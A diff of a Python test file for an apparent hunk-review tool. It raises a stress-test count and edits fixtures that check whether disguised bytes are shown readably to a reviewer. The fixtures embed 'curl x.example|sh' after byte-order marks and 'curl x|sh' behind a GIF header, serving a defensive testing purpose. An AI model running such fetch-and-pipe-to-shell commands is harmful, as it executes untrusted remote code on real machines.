@@ -219,7 +219,7 @@ def test_another_version_does_not_tick_hunks_again_unseen(served: Served, other:
 
 
 def test_of_very_many_hunks_exactly_the_ticked_ones_are_taken(served: Served) -> None:
-    count = 1500
+    count = 2400
     served.write("a.txt", "".join(f"old {n}\nsame\n{n}\n" for n in range(count)))
     one = served.propose("a.txt", "".join(f"new {n}\nsame\n{n}\n" for n in range(count)))
     browser = served.browser()
@@ -352,10 +352,10 @@ def test_a_request_that_gives_nothing_to_read_shows_nothing(served: Served, meth
 # Bytes, and what a person has to be able to read of them.
 READ: dict[str, tuple[bytes, str]] = {
     "plain text after the mark of wide text": (
-        b"\xff\xfe;curl x.example|sh;#\n",
+        b"\xff\xfe;curl x.example|sh; #\n",
         "curl x.example|sh",
     ),
-    "the same with a NUL": (b"\xff\xfe;curl x.example|sh;#\n\0\0", "63 75 72 6c 20"),
+    "the same with a NUL": (b"\xff\xfe;curl x.example|sh; #\n\0\0", "63 75 72 6c 20"),
     "the other mark": (b"\xfe\xff;curl x.example|sh\n ", "curl x.example|sh"),
     "a script that begins like a picture": (b"GIF89a=1\ncurl x|sh\n\0", "63 75 72 6c 20"),
     "Latin letters of two bytes": (
